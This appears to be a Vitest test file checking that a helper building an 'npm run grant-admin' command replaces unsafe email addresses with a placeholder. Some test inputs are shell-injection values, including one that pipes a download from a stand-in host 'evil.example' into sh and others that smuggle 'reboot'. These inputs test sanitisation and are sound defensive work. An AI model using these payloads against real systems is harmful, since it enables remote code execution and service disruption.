import { expect, test } from 'vitest';
import { unauthorisedTexts } from './admin.ts';

test.each([
  ['sara.a+ghar@ghar.example', 'sara.a+ghar@ghar.example'],
  ["o'brien@ghar.example", '<email>'],
  ['a;curl${IFS}evil.example|sh;@ghar.example', '<email>'],
  ['$(reboot)@ghar.example', '<email>'],
  ['a@ghar.example\nreboot', '<email>'],
])('the command for the account %j names %s', (email, named) => {
  expect(unauthorisedTexts.command(email)).toBe(`npm run grant-admin -- ${named}`);
});
